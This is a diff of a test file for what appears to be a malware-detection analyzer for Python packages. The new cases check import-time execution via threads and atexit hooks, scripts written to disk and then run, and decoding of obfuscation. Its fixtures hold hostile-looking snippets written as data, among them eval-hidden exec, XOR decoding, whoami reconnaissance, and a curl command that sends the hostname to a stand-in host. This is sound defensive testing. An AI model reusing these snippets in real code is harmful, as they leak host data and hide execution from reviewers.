@@ -123,6 +123,10 @@ test('execution context: setup.py is install time, module level and what it call
   assert.deepEqual(facts('import os\ndef f():\n    os.system("x")\nif __name__ == "__main__":\n    f()'), ['process:call:']);
   assert.deepEqual(facts('import os\ndef f():\n    os.system("x")'), ['process:call:']);
   assert.deepEqual(facts('import os\nos.system("x")', 'tests/test_x.py'), ['process:unshipped:']);
+  // A function handed to a thread or an exit handler at module level runs when the module is imported.
+  assert.deepEqual(facts('import os, threading\ndef f():\n    os.system("x")\nthreading.Thread(target=f).start()'), ['process:import:']);
+  assert.deepEqual(facts('import os, atexit\ndef f():\n    os.system("x")\natexit.register(f)'), ['process:import:']);
+  assert.deepEqual(facts('import os, threading\ndef f():\n    os.system("x")\ndef start():\n    threading.Thread(target=f).start()'), ['process:call:']);
 });
 
 test('a download and a process are one act only when the data flows from one to the other', () => {
@@ -132,6 +136,33 @@ test('a download and a process are one act only when the data flows from one to 
   assert.ok(!facts(apart).some((f) => f.startsWith('process:') && f.includes('dropped')));
   const otherFunction = 'import os, urllib.request\ndef a(path):\n    urllib.request.urlretrieve(U, path)\ndef b(path):\n    os.system("make " + path)';
   assert.ok(!facts(otherFunction).some((f) => f.startsWith('process:') && f.includes('dropped')), 'a name in another function is another variable');
+});
+
+test('a file written from a literal and then run is a script of that process; a file written and not run is not', () => {
+  const scriptsOf = (source: string): string[] => {
+    const tree = parser.parse(source);
+    try {
+      return moduleFacts(new ModuleModel(tree.rootNode), 'package').flatMap((f) => f.scripts ?? []);
+    } finally {
+      tree.delete();
+    }
+  };
+  const byHandle = 'import os, tempfile\nt = tempfile.NamedTemporaryFile(delete=False)\nt.write(b"print(1)  # the inert script")\nt.close()\nos.system(f"python {t.name}")';
+  assert.deepEqual(scriptsOf(byHandle), ['print(1)  # the inert script']);
+  const byPath = 'import subprocess, sys\nwith open("job_step.py", "w") as f:\n    f.write("print(2)  # the inert script")\nsubprocess.run([sys.executable, "job_step.py"])';
+  assert.deepEqual(scriptsOf(byPath), ['print(2)  # the inert script']);
+  const notRun = 'import subprocess\nwith open("notes.txt", "w") as f:\n    f.write("print(3)  # only text here")\nsubprocess.run(["git", "status"])';
+  assert.deepEqual(scriptsOf(notRun), []);
+});
+
+test('folding: eval of a literal name resolves it, XOR of unknowns is obfuscated, curl output is network data, a curl command line is a send', () => {
+  assert.deepEqual(fold('f = eval("\\x65\\x78\\x65\\x63")\nf'), { text: '<builtins.exec>', taints: ['obfuscated'] });
+  assert.deepEqual(fold('m = eval("__import__(\'base64\')")\nm'), { text: '<base64>', taints: ['obfuscated'] });
+  assert.deepEqual(fold('chr(ord(a) ^ ord(b))').taints, ['obfuscated']);
+  assert.deepEqual(fold('chr(ord(a) + 1)').taints, []);
+  assert.deepEqual(fold('import subprocess\nsubprocess.getoutput("curl -s https://example.invalid/x")').taints, ['network']);
+  assert.deepEqual(fold('import os\nos.popen("whoami").read()').taints, ['recon']);
+  assert.deepEqual(facts('import os, socket\nos.system("curl -d " + socket.gethostname() + " https://example.invalid/c")'), ['process:import:recon', 'network:import:recon']);
 });
 
 test('command lines: PowerShell -EncodedCommand is decoded, python -c is kept for a Python scan', () => {
